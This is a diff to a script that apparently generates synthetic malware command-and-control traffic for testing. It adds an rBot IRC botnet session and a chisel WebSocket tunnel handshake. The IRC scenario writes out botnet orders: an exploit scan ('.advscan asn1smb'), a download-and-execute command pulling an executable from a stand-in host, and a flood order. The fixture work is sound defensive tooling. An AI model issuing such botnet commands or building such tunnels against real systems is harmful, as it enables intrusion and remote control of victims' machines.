@@ -99,4 +99,46 @@ def turkojan():
     ]
 
 
-write(sys.argv[2], connection(PORTS, {"njrat": njrat, "strrat": strrat, "gh0st": gh0st, "meterpreter": meterpreter, "remcos": remcos, "turkojan": turkojan}[sys.argv[1]]()))
+def ircbot():
+    """rBot in a channel: login, a topic with an order, orders, answers; and a person who asks a harmless bot."""
+
+    def server(text):
+        return b":irc.test " + text.encode() + b"\r\n"
+
+    def channel(by, text, place="#x"):
+        return f":{by}!{by}@host.test PRIVMSG {place} :{text}\r\n".encode()
+
+    def client(text):
+        return text.encode() + b"\r\n"
+
+    return [
+        (0.1, IMPLANT, client("NICK [USA|XP|482211]") + client("USER kqzv 0 0 :kqzv")),
+        (0.1, OPERATOR, server("001 [USA|XP|482211] :welcome") + server("422 [USA|XP|482211] :no motd")),
+        (0.1, IMPLANT, client("JOIN #x key")),
+        (0.1, OPERATOR, server("332 [USA|XP|482211] #x :.advscan asn1smb 100 5 0 -r -s")),
+        (1.0, OPERATOR, channel("guest", "!seen alice")),
+        (5.0, OPERATOR, channel("boss", ".download http://203.0.113.9/a.exe c:\\a.exe 1")),
+        (1.0, IMPLANT, client("PRIVMSG #x :[DOWNLOAD]: Downloaded 12.0 KB to c:\\a.exe")),
+        (5.0, OPERATOR, channel("boss", "!* UNKNOWN 203.0.113.80 60")),
+        (1.0, OPERATOR, channel("boss", "well done")),
+        (1.0, OPERATOR, channel("guest", "hello", "#other")),
+    ]
+
+
+def chisel():
+    def frame(text, mask=b""):
+        masked = bytes(octet ^ mask[i % 4] for i, octet in enumerate(text)) if mask else text
+        return bytes([0x82, (0x80 if mask else 0) | len(text)]) + mask + masked
+
+    asked = "GET / HTTP/1.1\r\nHost: c2.test:5552\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n"
+    granted = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n"
+    return [
+        (0.1, IMPLANT, asked.encode()),
+        (0.1, OPERATOR, granted.encode()),
+        (0.1, IMPLANT, frame(b"SSH-2.0-chisel-v3-client\r\n", b"\1\2\3\4")),
+        (0.1, OPERATOR, frame(b"SSH-2.0-chisel-v3-server\r\n")),
+        (0.1, IMPLANT, frame(bytes(range(100)), b"\5\6\7\x08")),
+    ]
+
+
+write(sys.argv[2], connection(PORTS, {"ircbot": ircbot, "chisel": chisel, "njrat": njrat, "strrat": strrat, "gh0st": gh0st, "meterpreter": meterpreter, "remcos": remcos, "turkojan": turkojan}[sys.argv[1]]()))
